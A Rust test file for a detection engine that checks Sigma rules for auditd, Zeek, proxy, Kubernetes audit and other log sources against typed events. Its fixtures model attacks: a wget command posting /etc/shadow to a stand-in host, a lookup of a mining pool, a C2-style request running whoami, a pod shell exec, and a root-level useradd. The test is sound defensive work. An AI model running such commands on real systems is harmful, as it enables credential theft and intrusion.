//! Rules of other products over typed events: one real event of each family that is mapped.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

mod common;

use common::{at, created, engine, exec, run, shown};
use detect::Placeholders;
use detect::plain::{EventRules, EventScratch};
use event::api::ApiActivity;
use event::file::{File, FileOp};
use event::kernel::Syscall;
use event::log::{Act, LogRecord};
use event::network::{Connection, ConnectionOp, Direction, Dns, Endpoints, Http};
use event::process::{Actor, Argv, Exec, Gap};
use event::{Event, Kind, Text};
use std::sync::Arc;

const AUDIT: &str = "product: linux, service: auditd";
const ZEEK_DNS: &str = "product: zeek, service: dns";
const KUBERNETES: &str = "category: application, product: kubernetes, service: audit";

/// Whether a rule with the one search `search` holds for `event`.
fn holds(logsource: &str, search: &str, event: &Event) -> bool {
    let text =
        format!("title: t\nlogsource: {{{logsource}}}\ndetection:\n  s:\n    {search}\n  condition: s\n");
    let (items, problems) = strategy::sigma::read_str(&text);
    assert_eq!(problems, [], "{search}");
    let (rules, rejected) = EventRules::new(&items, &Placeholders::new());
    assert_eq!(rejected, [], "{search}");
    rules.judge(event, &mut EventScratch::default()).next().is_some()
}

fn check(logsource: &str, event: &Event, searches: &[(&str, bool)]) {
    for (search, expect) in searches {
        assert_eq!(holds(logsource, search, event), *expect, "{search}");
    }
}

fn file(op: FileOp, path: &str, target: &str) -> Event {
    let file = File { op, path: Text::resolved(path), target: Text::resolved(target), ..File::default() };
    let mut event = at(0.0, 0, Kind::File(Box::new(file)));
    event.actor = Some(Actor { comm: "mv".into(), euid: 33, ..Actor::default() });
    event
}

fn call(name: &str, args: [u64; 5], result: i64) -> Event {
    at(0.0, 0, Kind::Syscall(Box::new(Syscall { name: name.into(), args, result, ..Syscall::default() })))
}

#[test]
fn an_exec_is_its_records_in_the_audit_log() {
    let mut event = exec(0.0, 0, 1, ("/usr/bin/wget", "wget --post-file=/etc/shadow http://x"));
    event.actor = Some(Actor { comm: "wget".into(), euid: 33, ..Actor::default() });
    check(
        AUDIT,
        &event,
        &[
            ("{type: EXECVE, a0: wget, a1|startswith: '--post-file='}", true),
            ("{type: execve, a0: WGET}", true),
            ("{type: EXECVE, a0: curl}", false),
            ("{type: EXECVE, a1: wget}", false),
            ("{type: EXECVE, a3: null}", true),
            ("{type: PATH, name: /usr/bin/wget}", true),
            ("{type: PATH, nametype: NORMAL, name|endswith: /wget}", true),
            ("{type: SYSCALL, SYSCALL: [execve, execveat], euid: 33}", true),
            ("{type: SYSCALL, SYSCALL: execve, euid: 0}", false),
            ("{type: SYSCALL, comm: wget, exe: /usr/bin/wget, success: 'yes'}", true),
            ("{type|endswith: CVE}", true),
            ("{type|endswith: CALL, SYSCALL: ptrace}", false),
            ("{auid: 4294967295, exe|endswith: /wget}", true),
            ("{type: EXECVE, container.name: c1}", true),
        ],
    );
    let cut =
        Argv { args: vec!["tar".into(), "x".into()], gap: Some(Gap { before: 1, bytes: 9 }), lossy: false };
    let exec = Exec { path: Text::resolved("/bin/tar"), argv: cut, ..Exec::default() };
    let event = at(0.0, 0, Kind::Exec(Arc::new(exec)));
    check(AUDIT, &event, &[("{type: EXECVE, a0: tar}", true), ("{type: EXECVE, a1: x}", false)]);
}

#[test]
fn keywords_stand_in_the_arguments_and_nowhere_else() {
    let event = exec(0.0, 0, 1, ("/usr/bin/grep", "grep -r password /srv"));
    check(
        AUDIT,
        &event,
        &[("'|all': [grep, password]", true), ("'|all': [grep, alpine]", false), ("[halt, 0]", false)],
    );
}

#[test]
fn an_operation_on_files_has_both_names_and_says_what_became_of_them() {
    let event = file(FileOp::Rename, "/tmp/x.service", "/etc/systemd/system/x.service");
    check(
        AUDIT,
        &event,
        &[
            ("{type: PATH, nametype: CREATE, name|startswith: /etc/systemd/system/}", true),
            ("{type: PATH, nametype: DELETE, name: /tmp/x.service}", true),
            ("{type: PATH, nametype: NORMAL, name: /tmp/x.service}", false),
            ("{type: PATH, name|contains|all: [/tmp/, /etc/]}", true),
            ("{type: PATH, name: /etc/passwd}", false),
            ("{type: SYSCALL, SYSCALL: [renameat2, mknod]}", true),
            ("{type: SYSCALL, SYSCALL: unlink}", false),
            ("{type: EXECVE, a0: mv}", false),
            ("{type: SYSCALL, comm: mv, euid: 33, success: 'yes'}", true),
            ("{type: SYSCALL, comm: mv, success: 'no'}", false),
        ],
    );
}

#[test]
fn arguments_of_system_calls_are_hexadecimal_as_in_the_log() {
    let event = call("personality", [0x0004_0000, 0, 0, 0, 0], 0);
    check(
        AUDIT,
        &event,
        &[
            ("{type: SYSCALL, SYSCALL: personality, a0: 40000}", true),
            ("{type: SYSCALL, SYSCALL: personality, a0: 262144}", false),
            ("{type: SYSCALL, SYSCALL: personality, exit: 0}", true),
        ],
    );
    let event = call("setuid", [0x1e3, 0, 0, 0, 0], -1);
    check(
        AUDIT,
        &event,
        &[("{SYSCALL: setuid, a0: 1000}", false), ("{SYSCALL: setuid, success: 'no'}", true)],
    );
}

fn dns(direction: Direction, response: bool) -> Event {
    let ends = Endpoints {
        local_ip: "10.0.0.2".parse().unwrap(),
        local_port: 40_000,
        remote_ip: "9.9.9.9".parse().unwrap(),
        remote_port: 53,
        ..Endpoints::default()
    };
    let dns = Dns { ends, direction, response, query: "pool.minexmr.com".into(), ..Dns::default() };
    let dns = Dns { record_type: "TXT".into(), reserved: 2, ..dns };
    at(0.0, 0, Kind::Dns(Box::new(dns)))
}

#[test]
fn dns_has_the_names_of_sigma_of_sysmon_and_of_zeek() {
    let mut event = dns(Direction::In, true);
    let Kind::Dns(answer) = &mut event.kind else { panic!("{event:?}") };
    answer.answers = vec!["127.0.0.1".into(), "v=IEX".into()];
    let both = [("{query|endswith: minexmr.com}", true), ("{query: minexmr.com}", false)];
    check("category: dns", &event, &both);
    check("category: dns", &event, &[("{record_type: TXT, answer|contains: IEX}", true)]);
    check("category: dns_query, product: linux", &event, &[("{QueryName|contains: minexmr}", true)]);
    check(ZEEK_DNS, &event, &both);
    check(
        ZEEK_DNS,
        &event,
        &[
            ("{answers: [127.0.0.1, 0.0.0.0]}", true),
            ("{qtype_name: txt}", true),
            ("{qtype_name: mx}", false),
            ("{rejected: 'true'}", false),
            ("{Z: 2}", true),
            ("{rcode_name: NOERROR}", true),
            // The response came to the one that asked.
            ("{id.orig_h: 10.0.0.2, id.resp_h|cidr: 9.0.0.0/8, id.resp_p: 53, id.orig_p: 40000}", true),
        ],
    );
    check(ZEEK_DNS, &dns(Direction::Out, false), &[("{id.resp_p: 53}", true), ("{id.orig_p: 53}", false)]);
    check(
        ZEEK_DNS,
        &dns(Direction::In, false),
        &[("{id.orig_p: 53}", true), ("{id.resp_h: 10.0.0.2}", true)],
    );
    let mut refused = dns(Direction::In, true);
    let Kind::Dns(answer) = &mut refused.kind else { panic!("{refused:?}") };
    answer.rcode = 5;
    check(ZEEK_DNS, &refused, &[("{rejected: 'true'}", true), ("{rcode_name: REFUSED}", true)]);
}

#[test]
fn a_request_of_http_has_the_names_of_proxies_of_web_servers_and_of_zeek() {
    let Kind::Dns(dns) = dns(Direction::Out, false).kind else { panic!("no DNS") };
    let http = Http {
        ends: dns.ends,
        initiated: true,
        method: "POST".into(),
        host: Text::claimed("c2.example.com"),
        target: Text::claimed("/gate/x.php?cmd=whoami"),
        agent: Text::claimed("curl/8.5.0"),
        status: 200,
        media_type: "application/octet-stream".into(),
        ..Http::default()
    };
    let event = at(0.0, 0, Kind::Http(Box::new(http)));
    check(
        "category: proxy",
        &event,
        &[
            ("{c-useragent|startswith: curl/, cs-host|endswith: .example.com}", true),
            ("{c-uri|contains: /gate/, cs-method: POST, c-uri-extension: php}", true),
            ("{c-uri-query: cmd=whoami, c-uri-stem: /gate/x.php, dst_ip: 9.9.9.9}", true),
            ("{c-uri-extension: exe}", false),
        ],
    );
    check(
        "category: webserver",
        &event,
        &[
            ("{cs-uri-query|contains: /gate/, sc-status: 200}", true),
            ("[whoami]", true),
            ("[c2.example.net]", false),
            ("{sc-status: 404}", false),
        ],
    );
    check(
        "product: zeek, service: http",
        &event,
        &[
            ("{method: POST, uri|contains: gate, id.resp_h: 9.9.9.9, id.orig_p: 40000}", true),
            ("{resp_mime_types: application/octet-stream, user_agent: curl/8.5.0, status_code: 200}", true),
        ],
    );
}

#[test]
fn connections_have_an_end_that_connected() {
    let event = |op| {
        let Kind::Dns(dns) = dns(Direction::Out, false).kind else { panic!("no DNS") };
        at(0.0, 0, Kind::Connection(Box::new(Connection { op, ends: dns.ends, ..Connection::default() })))
    };
    const CONN: &str = "product: zeek, service: conn";
    let search = "{id.orig_h: 10.0.0.2, id.resp_p: 53, proto: tcp}";
    assert!(holds(CONN, search, &event(ConnectionOp::Connect)));
    assert!(!holds(CONN, search, &event(ConnectionOp::Accept)));
    assert!(holds(CONN, "{id.orig_h: 9.9.9.9}", &event(ConnectionOp::Accept)));
    assert!(holds("category: firewall", "{dst_port: 53, src_ip: 10.0.0.2}", &event(ConnectionOp::Connect)));
    // Nobody knows who opened what is only seen to close.
    assert!(holds("category: firewall", "{dst_port: null}", &event(ConnectionOp::Close)));
}

#[test]
fn a_request_to_kubernetes_has_the_names_of_its_audit_log() {
    let activity = ApiActivity {
        service: "kubernetes".into(),
        verb: "create".into(),
        resource: "pods".into(),
        group: "apps".into(),
        namespace: "kube-system".into(),
        user: Text::claimed("mallory"),
        user_agent: Text::claimed("trufflehog/3"),
        request_uri: Text::claimed("/api/v1/namespaces/default/pods/x/exec?command=%2fbin%2fsh"),
        status: 201,
        host_paths: vec!["/".into()],
        ..ApiActivity::default()
    };
    let event = at(0.0, 0, Kind::Api(Box::new(activity)));
    let searches = [
        ("{verb: create, objectRef.resource: pods, hostPath: '*'}", true),
        ("{verb: create, objectRef.resource: pods, capabilities: '*'}", false),
        ("{objectRef.namespace: kube-system, user.username: mallory}", true),
        ("{apiGroup: apps, objectRef.apiGroup: apps}", true),
        (
            "{responseStatus.code: ALLOW, requestURI|contains: '%2fbin%2fsh', userAgent|contains: trufflehog}",
            true,
        ),
        ("{responseStatus.code: [401, 403]}", false),
    ];
    check(KUBERNETES, &event, &searches);
    check("product: kubernetes, service: audit", &event, &searches);
    let mut denied = event.clone();
    let Kind::Api(activity) = &mut denied.kind else { panic!("{denied:?}") };
    activity.status = 403;
    check(
        KUBERNETES,
        &denied,
        &[("{responseStatus.code: ALLOW}", false), ("{responseStatus.code: [401, 403]}", true)],
    );
}

#[test]
fn sysmons_names_of_users_are_numbers() {
    let mut event = exec(0.0, 0, 1, ("/bin/sh", "sh"));
    let linux = "category: process_creation, product: linux";
    check(
        linux,
        &event,
        &[("{User: root, LogonId: 0}", true), ("{User: '0'}", true), ("{User: 1000}", false)],
    );
    event.actor = Some(Actor { uid: 1000, ..Actor::default() });
    check(
        linux,
        &event,
        &[("{User: root}", false), ("{User: '1000'}", true), ("{User|startswith: '1'}", true)],
    );
}

/// One rule that exec, files and calls stand for, in a strategy.
const ACCOUNTS: &str = "
title: accounts
name: accounts
id: 7b0f9d3e-0000-4000-8000-000000000003
level: high
observed: '{Image} touched accounts'
expected: nothing does
logsource: {product: linux, service: auditd}
detection:
  program: {type: EXECVE, a0: useradd}
  path: {type: PATH, name: /etc/passwd}
  condition: 1 of them
";

#[test]
fn a_rule_of_several_classes_is_one_rule() {
    let numbered = |mut event: Event, number| {
        event.id.sequence = number;
        event
    };
    let events = || {
        [
            exec(0.0, 0, 1, ("/usr/sbin/useradd", "useradd eve")),
            exec(0.0, 1, 1, ("/bin/ls", "ls /etc/passwd")),
            numbered(file(FileOp::OpenWrite, "/etc/passwd", ""), 2),
            numbered(file(FileOp::OpenWrite, "/etc/group", ""), 3),
        ]
    };
    let alerts = run(&mut engine(ACCOUNTS), events());
    assert_eq!(created(&alerts), ["accounts", "accounts"], "{:?}", shown(&alerts));
    let pair = format!(
        "{ACCOUNTS}---\ntitle: both\nname: both\nid: 7b0f9d3e-0000-4000-8000-000000000004\nlevel: high\n\
         observed: '{{count}} times'\nexpected: none\ncorrelation: {{type: event_count, rules: [accounts], timespan: 1m, condition: {{gte: 2}}}}\n"
    );
    let alerts = run(&mut engine(&pair), events());
    assert_eq!(created(&alerts), ["both"], "{:?}", shown(&alerts));
}

#[test]
fn what_nobody_can_tell_counts_against_a_rule_whether_negated_or_not() {
    let rejected = |detection: &str| {
        let text = format!("title: t\nlogsource: {{{AUDIT}}}\ndetection:\n{detection}");
        let (items, _) = strategy::sigma::read_str(&text);
        let (rules, rejected) = EventRules::new(&items, &Placeholders::new());
        (rules.len(), rejected.iter().map(|one| one.fault.to_string()).collect::<Vec<_>>())
    };
    let lack = "without a source: `key` (a key of the audit rules, which are not there)";
    for condition in ["a and not b", "not b", "not (a or b)", "a and b"] {
        let detection = format!("  a: {{exe: /x}}\n  b: {{key: k}}\n  condition: {condition}\n");
        assert_eq!(rejected(&detection), (0, vec![lack.to_owned()]), "{condition}");
    }
    for condition in ["a or b", "a or not b", "not (a and b)", "1 of them"] {
        let detection = format!("  a: {{exe: /x}}\n  b: {{key: k}}\n  condition: {condition}\n");
        assert_eq!(rejected(&detection), (6, vec![lack.to_owned()]), "{condition}");
    }
    let of_other = "  a: {type: EXECVE, nametype: CREATE}\n  condition: a\n";
    assert_eq!(rejected(of_other).0, 0);
    assert_eq!(
        rejected("  a: {exee: x}\n  condition: a\n"),
        (0, vec!["field `exee` is not in the catalogue".to_owned()])
    );
    assert_eq!(
        rejected("  a: {SYSCALL: sysinfo}\n  condition: a\n").1,
        ["without a source: `SYSCALL: sysinfo` (no sensor sees this system call)"]
    );
}

#[test]
fn lines_of_logs_are_asked_by_keywords_and_by_the_names_of_audit_records() {
    let record = LogRecord {
        message: Text::claimed("new user: name=eve, UID=0, GID=0, home=/root"),
        program: "useradd".into(),
        act: Act::UserAdded,
        ..LogRecord::default()
    };
    let line = at(0.0, 0, Kind::Log(Arc::new(record)));
    check("product: linux", &line, &[("['GID=0,', 'GID=27,']", true), ("['deleted user']", false)]);
    check("product: linux, service: sshd", &line, &[("['new user']", true), ("{program: useradd}", true)]);
    let record = LogRecord {
        record: "SERVICE_STOP".into(),
        unit: "ufw".into(),
        act: Act::ServiceStopped,
        success: Some(true),
        ..LogRecord::default()
    };
    let stop = at(0.0, 0, Kind::Log(Arc::new(record)));
    let searches = [
        ("{type: SERVICE_STOP, unit: [firewalld, ufw]}", true),
        ("{type: service_stop, res: success}", true),
        ("{type: SERVICE_STOP, res: failed}", false),
        ("{type: SERVICE_START}", false),
    ];
    check(AUDIT, &stop, &searches);
}
